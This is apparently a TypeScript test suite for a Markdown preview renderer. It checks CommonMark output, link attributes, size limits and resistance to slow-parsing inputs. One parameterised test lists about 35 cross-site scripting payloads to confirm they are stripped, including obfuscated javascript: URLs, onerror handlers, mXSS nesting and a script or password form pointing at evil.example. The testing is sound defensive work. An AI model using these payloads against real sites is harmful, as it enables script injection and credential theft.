import { describe, expect, test } from "bun:test";
import { PREVIEW_LIMITS } from "../../../src/flags/limits.ts";
import { renderMarkdown } from "../../../src/flags/previews/preview-html.ts";

/** Every element of some HTML with its attributes, as another parser finds them. */
function elementsIn(html: string): { tag: string; attributes: [name: string, value: string][] }[] {
  const elements: ReturnType<typeof elementsIn> = [];
  const rewriter = new HTMLRewriter().on("*", {
    element: (element) =>
      void elements.push({
        tag: element.tagName,
        attributes: [...element.attributes].map(([name, value]) => [name, value]),
      }),
  });
  rewriter.transform(html);
  return elements;
}

describe("the HTML of a preview", () => {
  test("is what CommonMark makes of the Markdown", () => {
    const markdown =
      "# Search\n\nFind *all* in **one** box:\n\n1. `type`\n2. read\n\n> soon\n\n```js\na < b\n```\n";
    expect(renderMarkdown(markdown)).toBe(
      "<h1>Search</h1>\n<p>Find <em>all</em> in <strong>one</strong> box:</p>\n" +
        "<ol>\n<li><code>type</code></li>\n<li>read</li>\n</ol>\n" +
        "<blockquote>\n<p>soon</p>\n</blockquote>\n" +
        '<pre><code class="language-js">a &lt; b\n</code></pre>\n',
    );
  });

  test("keeps web, mail and relative links, which vouch for nothing, and images of the web", () => {
    const html = renderMarkdown(
      "[a](https://example.com/?a=1&b=2 'A \"b\"') [b](mailto:a@example.com) [c](/docs#d) [e](./f) ![g](https://example.com/g.png)",
    )!;
    expect(elementsIn(html)).toEqual([
      { tag: "p", attributes: [] },
      {
        tag: "a",
        attributes: [
          ["href", "https://example.com/?a=1&amp;b=2"],
          ["rel", "noopener nofollow"],
          ["title", "A &quot;b&quot;"],
        ],
      },
      ...["mailto:a@example.com", "/docs#d", "./f"].map((href) => ({
        tag: "a",
        attributes: [
          ["href", href],
          ["rel", "noopener nofollow"],
        ] as [string, string][],
      })),
      {
        tag: "img",
        attributes: [
          ["src", "https://example.com/g.png"],
          ["alt", "g"],
        ],
      },
    ]);
  });

  test.each([
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<style>* { display: none }</style>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x" alt="`><script>alert(1)</script>">',
    "<p onclick=alert(1) style='position: fixed' class=a id=b>x</p>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='https://a.example' target=_blank rel=opener onmouseover=alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<a\thref='javascript:alert(1)'>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="java&NewLine;script:alert(1)">x</a>',
    "<a href='&#x20;javascript:alert(1)'>x</a>",
    "<a href='&#106avascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVa&#115;cript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "a\0b<\0script>alert(1)</\0script>",
  ])("holds nothing that runs, loads a page or looks like one: %j", (markdown) => {
    const allowed = new Set(["p", "a", "img", "br", "code", "em", "blockquote", "pre"]);
    for (const { tag, attributes } of elementsIn(renderMarkdown(markdown)!)) {
      expect(allowed).toContain(tag);
      for (const [name, value] of attributes) {
        expect(["href", "src", "alt", "title", "rel"]).toContain(name);
        if (name === "href" || name === "src") expect(value).toMatch(/^(https:|x$)/);
        if (name === "rel") expect(value).toBe("noopener nofollow");
      }
    }
  });

  test("is not made where it would be too large, however the Markdown grows", () => {
    const fill = (text: string) => text.repeat(PREVIEW_LIMITS.content / text.length);
    expect(renderMarkdown(fill(">"))).toBeNull();
    expect(renderMarkdown(`[a]: http://${"x".repeat(30_000)}\n\n${"[a]".repeat(11_000)}`)).toBeNull();
    expect(renderMarkdown(fill("|a"))!.length).toBeLessThan(2 * PREVIEW_LIMITS.html);
  });

  test("is made in milliseconds of any attributes", () => {
    const { content } = PREVIEW_LIMITS;
    const fill = (start: string, text: string, end: string) =>
      start + text.repeat((content - start.length - end.length) / text.length) + end;
    const texts = [
      // It took a minute and more.
      fill("<a ", "a ", ">x</a>"),
      fill("<a ", "href ", ">x</a>"),
      fill("<a ", "a= ", ">x</a>"),
      fill("<a ", " ", ">x</a>"),
      fill("<a href=", " ", "x>x</a>"),
      fill("<a ", "title='b c' ", ">x</a>"),
      fill("a ", "<a b", ""),
      fill("a ", '<a b="', ""),
      fill("a ", "<p ' \" >", ""),
      fill("", "<svg>a</p>", ""),
    ];
    for (const text of texts) {
      const start = performance.now();
      renderMarkdown(text);
      expect([text.slice(0, 20), performance.now() - start < 2000]).toEqual([text.slice(0, 20), true]);
    }
  });
});
